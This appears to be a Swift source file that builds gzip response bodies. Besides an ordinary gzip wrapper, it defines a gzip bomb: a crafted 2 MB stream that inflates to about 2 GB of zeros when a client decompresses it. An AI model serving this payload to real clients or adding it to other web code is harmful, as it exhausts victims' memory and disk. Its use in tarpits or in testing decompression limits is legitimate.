import Foundation
import ZIPFoundation

/// gzip (RFC 1952) around ZIPFoundation's raw deflate, for `Content-Encoding: gzip`.
enum Gzip {
    /// The 10-byte gzip header: deflate, no name, mtime 0 (deterministic), Unix.
    static let header: [UInt8] = [0x1F, 0x8B, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x03]

    static func compress(_ data: Data) -> Data {
        var deflated = Data()
        let crc: UInt32
        do {
            crc = try Data.compress(size: Int64(data.count), bufferSize: 64 * 1024, provider: { position, size in
                data.subdata(in: Int(position)..<Int(position) + size)
            }, consumer: { deflated.append($0) })
        } catch {
            preconditionFailure("deflate of an in-memory buffer failed: \(error)")
        }
        var result = Data(header)
        result.append(deflated)
        result.append(contentsOf: littleEndian(crc))
        result.append(contentsOf: littleEndian(UInt32(truncatingIfNeeded: data.count)))
        return result
    }

    static func littleEndian(_ value: UInt32) -> [UInt8] {
        [UInt8(value & 0xFF), UInt8((value >> 8) & 0xFF), UInt8((value >> 16) & 0xFF), UInt8(value >> 24)]
    }

    // MARK: CRC-32 of long runs of zeros

    /// The CRC-32 of `count` zero bytes, in O(log count): the register starts at all ones and
    /// each zero byte applies the same linear map, so square-and-multiply that map (the method
    /// of zlib's `crc32_combine`).
    static func crc32OfZeros(count: UInt64) -> UInt32 {
        func times(_ matrix: [UInt32], _ vector: UInt32) -> UInt32 {
            var sum: UInt32 = 0
            var vector = vector
            var row = 0
            while vector != 0 {
                if vector & 1 != 0 { sum ^= matrix[row] }
                vector >>= 1
                row += 1
            }
            return sum
        }
        func square(_ matrix: [UInt32]) -> [UInt32] { (0..<32).map { times(matrix, matrix[$0]) } }

        // The map of one zero bit on the reflected register.
        var odd = [UInt32](repeating: 0, count: 32)
        odd[0] = 0xEDB8_8320
        for n in 1..<32 { odd[n] = 1 << UInt32(n - 1) }
        var even = square(odd)  // two zero bits
        odd = square(even)  // four zero bits
        var register: UInt32 = 0xFFFF_FFFF
        var left = count
        while left != 0 {
            even = square(odd)  // first round: one zero byte
            if left & 1 != 0 { register = times(even, register) }
            left >>= 1
            if left == 0 { break }
            odd = square(even)
            if left & 1 != 0 { register = times(odd, register) }
            left >>= 1
        }
        return register ^ 0xFFFF_FFFF
    }
}

/// A gzip bomb: a valid gzip stream of zeros at deflate's best ratio (1032:1), served as
/// `prefix + zeros + suffix` so that a 2 MB body inflating to ~2 GB costs nothing to keep.
///
/// One dynamic-Huffman block gives the length-258/distance-1 match and distance code 0
/// one-bit codes each, so every match is the two bits `00` and four matches are a zero
/// byte: the middle of the stream is literally zero bytes, streamed from a shared buffer.
struct GzipBomb: Sendable {
    let prefix: [UInt8]
    let zeroBytes: Int
    let suffix: [UInt8]
    /// What the body inflates to.
    let inflatedSize: UInt64

    var compressedSize: Int { prefix.count + zeroBytes + suffix.count }

    init(zeroBytes: Int = 2_000_000) {
        var bits = BitWriter()
        bits.write(1, count: 1)  // BFINAL
        bits.write(2, count: 2)  // BTYPE = dynamic Huffman
        bits.write(29, count: 5)  // HLIT: 286 literal/length codes (up to 285)
        bits.write(1, count: 5)  // HDIST: 2 distance codes
        bits.write(15, count: 4)  // HCLEN: 19 code-length codes (keeps the bit count even, see below)
        // Code-length code lengths in the order RFC 1951 lists them: 18 → 1 bit, 1 and 2 → 2 bits.
        let order = [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1, 15]
        let codeLengthLengths: [Int: UInt32] = [18: 1, 1: 2, 2: 2]
        for symbol in order { bits.write(codeLengthLengths[symbol] ?? 0, count: 3) }
        // Canonical codes of that alphabet: 18 = 0, 1 = 10, 2 = 11.
        func length(_ value: Int) {
            bits.writeHuffman(value == 1 ? 0b10 : 0b11, length: 2)
        }
        func zeros(_ run: Int) {
            bits.writeHuffman(0, length: 1)
            bits.write(UInt32(run - 11), count: 7)
        }
        length(2)  // literal 0
        zeros(138)
        zeros(117)  // literals 1…255
        length(2)  // 256, end of block
        zeros(28)  // lengths 257…284
        length(1)  // 285, match length 258
        length(1)  // distance code 0 (distance 1)
        length(1)  // distance code 1 (unused; keeps the code complete)
        // Literal/length canonical codes: 285 = 0, literal 0 = 10, end of block = 11.
        bits.writeHuffman(0b10, length: 2)  // the one literal zero byte
        var matches: UInt64 = 0
        while !bits.isAligned {
            bits.writeHuffman(0, length: 1)
            bits.writeHuffman(0, length: 1)
            matches += 1
        }
        precondition(bits.isAligned, "header bits must be even so two-bit matches can align")
        matches += UInt64(zeroBytes) * 4
        let inflated = 1 + matches * 258

        var tail = BitWriter()
        tail.writeHuffman(0b11, length: 2)  // end of block
        var suffix = tail.bytes
        suffix += Gzip.littleEndian(Gzip.crc32OfZeros(count: inflated))
        suffix += Gzip.littleEndian(UInt32(truncatingIfNeeded: inflated))

        self.prefix = Gzip.header + bits.bytes
        self.zeroBytes = zeroBytes
        self.suffix = suffix
        self.inflatedSize = inflated
    }

    /// The body bytes in `range`, for streaming.
    func bytes(in range: Range<Int>) -> [UInt8] {
        var result: [UInt8] = []
        result.reserveCapacity(range.count)
        for segment in [(0, prefix.count), (prefix.count, zeroBytes), (prefix.count + zeroBytes, suffix.count)] {
            let lower = max(range.lowerBound, segment.0)
            let upper = min(range.upperBound, segment.0 + segment.1)
            guard lower < upper else { continue }
            if segment.0 == 0 {
                result += prefix[lower..<upper]
            } else if segment.0 == prefix.count {
                result += repeatElement(0, count: upper - lower)
            } else {
                result += suffix[(lower - segment.0)..<(upper - segment.0)]
            }
        }
        return result
    }
}

/// Writes a deflate bit stream: fields least significant bit first, Huffman codes most
/// significant bit first, as RFC 1951 packs them.
struct BitWriter {
    private(set) var bytes: [UInt8] = []
    private var used = 0  // bits used in the last byte

    var isAligned: Bool { used == 0 }

    mutating func writeBit(_ bit: UInt32) {
        if used == 0 { bytes.append(0) }
        if bit != 0 { bytes[bytes.count - 1] |= UInt8(1 << used) }
        used = (used + 1) % 8
    }

    mutating func write(_ value: UInt32, count: Int) {
        for index in 0..<count { writeBit((value >> UInt32(index)) & 1) }
    }

    mutating func writeHuffman(_ code: UInt32, length: Int) {
        for index in stride(from: length - 1, through: 0, by: -1) { writeBit((code >> UInt32(index)) & 1) }
    }
}
